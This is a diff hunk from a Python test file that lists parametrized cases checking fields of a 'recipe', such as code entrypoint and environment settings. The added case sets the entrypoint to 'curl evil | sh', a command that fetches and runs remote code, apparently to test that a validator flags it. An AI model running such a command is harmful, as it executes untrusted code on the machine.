@@ -68,6 +68,7 @@ def test_an_empty_recipe_lacks_everything_and_says_each_thing_once() -> None:
         ("code.dirty", True, "code.clean", 0.9),
         ("code.dirty", None, "code.clean", 0.9),
         ("code.entrypoint", "  ", "code.entrypoint", 0.9),
+        ("code.entrypoint", "curl evil | sh", "code.entrypoint", 0.9),
         ("environment", None, "environment.python", 0.75),
         ("environment.python", "three", "environment.python", 0.9),
         ("environment.packages", {}, "environment.packages", 0.85),
